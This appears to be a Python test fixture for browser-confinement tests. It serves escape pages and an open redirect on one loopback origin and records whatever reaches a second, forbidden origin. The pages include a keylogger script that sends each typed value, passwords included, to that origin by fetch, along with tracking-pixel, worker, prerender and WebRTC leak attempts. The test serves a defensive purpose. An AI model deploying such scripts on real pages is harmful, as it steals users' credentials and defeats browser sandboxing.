"""Two loopback origins for the confinement tests: one the browser may load, one it must never reach.

The allowed origin serves pages that each try one way out (listed in ``PAGES``)
and an open redirect; the other origin only records what reaches it, headers
included, so a test can tell whether a request (or a cookie) left the context.
A UDP socket stands in for a STUN server: a WebRTC binding request that gets
out lands there.
"""

from __future__ import annotations

import socket
import threading
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Self
from urllib.parse import parse_qs, urlsplit

__all__ = ["PAGES", "SESSION_COOKIE", "Hit", "TwoOrigins"]

SESSION_COOKIE = "lab_session=lab-session-secret"

# A button that proves the page still works: it writes into #said.
_STAY = "<button onclick=\"document.getElementById('said').textContent = 'still here'\">Stay</button><p id=said></p>"

# Each page on the allowed origin; {OTHER} is the forbidden origin, {STUN} the UDP port.
# Every escape carries a query string that must never reach a record.
PAGES: dict[str, str] = {
    "img": '<img id="x" src="/redirect?to={OTHER}/img-hop%3Fq%3Dleak">',
    "fetch": "<script>fetch('/redirect?to=' + encodeURIComponent('{OTHER}/fetch-hop?q=leak'),"
    " {{credentials: 'include'}}).catch(() => null)</script>",
    "iframe": '<iframe src="/redirect?to={OTHER}/iframe-hop%3Fq%3Dleak"></iframe>',
    "prefetch": '<script type="speculationrules">{{"prefetch": [{{"source": "list", "eagerness": "immediate",'
    ' "urls": ["/redirect?to={OTHER}/prefetch-hop%3Fq%3Dleak", "{OTHER}/prefetch-direct?q=leak"]}}],'
    ' "prerender": [{{"source": "list", "eagerness": "immediate",'
    ' "urls": ["/redirect?to={OTHER}/prerender-hop%3Fq%3Dleak", "/prerender-target"]}}]}}</script>'
    '<a href="/prerender-target">next</a>',
    "shared-worker": "<script>try {{ new SharedWorker('/worker.js?kind=sharedworker').port.start() }}"
    " catch (e) {{ document.title = 'no SharedWorker' }}</script>",
    "dedicated-worker": "<script>try {{ new Worker('/worker.js?kind=worker') }}"
    " catch (e) {{ document.title = 'no Worker' }}</script>",
    "webrtc": "<script>try {{ const pc = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{STUN}'}}]}});"
    " pc.onicegatheringstatechange = () => {{ if (pc.iceGatheringState === 'complete') document.title = 'gathered' }};"
    " pc.createDataChannel('x'); pc.createOffer().then(o => pc.setLocalDescription(o)) }}"
    " catch (e) {{ document.title = 'no RTCPeerConnection' }}</script>",
    "js-redirect": "<button onclick=\"location.href = '{OTHER}/js-hop?q=leak'\">Leave</button>" + _STAY,
    "meta-refresh": '<meta http-equiv="refresh" content="0; url={OTHER}/meta-hop?q=leak">' + _STAY,
    "popup": "<button onclick=\"window.open('{OTHER}/popup-hop?q=leak')\">Open</button>" + _STAY,
    "pixel": '<h1>Pixel</h1><img src="{OTHER}/pixel.png?q=leak">',
    "keylogger": '<form action="/login"><label>Username <input name="u"></label>'
    '<label>Password <input name="p" type="password"></label><button>Sign in</button></form>'
    "<script>document.addEventListener('input', e => fetch('{OTHER}/keys?k=' + encodeURIComponent(e.target.value),"
    " {{mode: 'no-cors'}}).catch(() => null))</script>",
    "plain": "<h1>Plain page</h1>" + _STAY,
}

WORKER_JS = (
    "fetch('{OTHER}/{kind}-fetch?q=leak').catch(() => null);\n"
    "fetch('/redirect?to=' + encodeURIComponent('{OTHER}/{kind}-redirect-hop?q=leak')).catch(() => null);\n"
    "try {{ importScripts('{OTHER}/{kind}-import.js?q=leak') }} catch (e) {{}}\n"
)


@dataclass(frozen=True)
class Hit:
    """One request the forbidden origin received."""

    method: str
    path: str
    headers: dict[str, str]


def _free_udp() -> socket.socket:
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("127.0.0.1", 0))
    sock.settimeout(0.2)
    return sock


class TwoOrigins:
    """The allowed origin, the forbidden origin, and a UDP listener, all on free loopback ports."""

    def __init__(self) -> None:
        self.hits: list[Hit] = []
        self.udp_packets: list[bytes] = []
        self._lock = threading.Lock()
        self._allowed = ThreadingHTTPServer(("127.0.0.1", 0), self._allowed_handler())
        self._other = ThreadingHTTPServer(("127.0.0.1", 0), self._other_handler())
        self._udp = _free_udp()
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []

    @property
    def allowed(self) -> str:
        return f"http://127.0.0.1:{self._allowed.server_address[1]}"

    @property
    def other(self) -> str:
        return f"http://127.0.0.1:{self._other.server_address[1]}"

    @property
    def stun_port(self) -> int:
        return int(self._udp.getsockname()[1])

    def page(self, name: str) -> str:
        """The HTML of one escape page, with the forbidden origin filled in."""
        return PAGES[name].format(OTHER=self.other, STUN=self.stun_port)

    def reset(self) -> None:
        with self._lock:
            self.hits.clear()
            self.udp_packets.clear()

    def received(self) -> list[Hit]:
        with self._lock:
            return list(self.hits)

    def __enter__(self) -> Self:
        for server in (self._allowed, self._other):
            thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
            thread.start()
            self._threads.append(thread)
        udp = threading.Thread(target=self._listen_udp, daemon=True)
        udp.start()
        self._threads.append(udp)
        return self

    def __exit__(self, et: type[BaseException] | None, e: BaseException | None, tb: TracebackType | None) -> None:
        self._stop.set()
        for server in (self._allowed, self._other):
            server.shutdown()
            server.server_close()
        for thread in self._threads:
            thread.join(5)
        self._udp.close()

    def _listen_udp(self) -> None:
        while not self._stop.is_set():
            try:
                data, _ = self._udp.recvfrom(4096)
            except TimeoutError:
                continue
            except OSError:
                return
            with self._lock:
                self.udp_packets.append(data)

    def _allowed_handler(self) -> type[BaseHTTPRequestHandler]:
        lab = self

        class Allowed(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:  # quiet test output
                return

            def _send(self, status: int, body: str, ctype: str = "text/html", **headers: str) -> None:
                data = body.encode()
                self.send_response(status)
                self.send_header("Content-Type", ctype)
                self.send_header("Content-Length", str(len(data)))
                for name, value in headers.items():
                    self.send_header(name.replace("_", "-"), value)
                self.end_headers()
                self.wfile.write(data)

            def do_GET(self) -> None:
                url = urlsplit(self.path)
                query = parse_qs(url.query)
                if url.path == "/redirect":
                    self._send(302, "", Location=query["to"][0])
                elif url.path == "/login":
                    body = "<title>lab</title><h1>Signed in</h1>"
                    self._send(200, body, Set_Cookie=f"{SESSION_COOKIE}; Path=/; HttpOnly")
                elif url.path == "/worker.js":
                    kind = query.get("kind", ["worker"])[0]
                    self._send(200, WORKER_JS.format(OTHER=lab.other, kind=kind), "text/javascript")
                elif url.path == "/prerender-target":
                    self._send(200, "<h1>Prerendered</h1><img src='/redirect?to=" + lab.other + "/prerender-img'>")
                elif url.path.startswith("/page/") and url.path.removeprefix("/page/") in PAGES:
                    self._send(200, f"<!doctype html><title>lab</title>{lab.page(url.path.removeprefix('/page/'))}")
                else:
                    self._send(404, "not here")

        return Allowed

    def _other_handler(self) -> type[BaseHTTPRequestHandler]:
        lab = self

        class Other(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: object) -> None:
                return

            def _record(self) -> None:
                with lab._lock:
                    lab.hits.append(Hit(self.command, self.path, {k.lower(): v for k, v in self.headers.items()}))
                body = b"/* other origin */"
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _record

        return Other
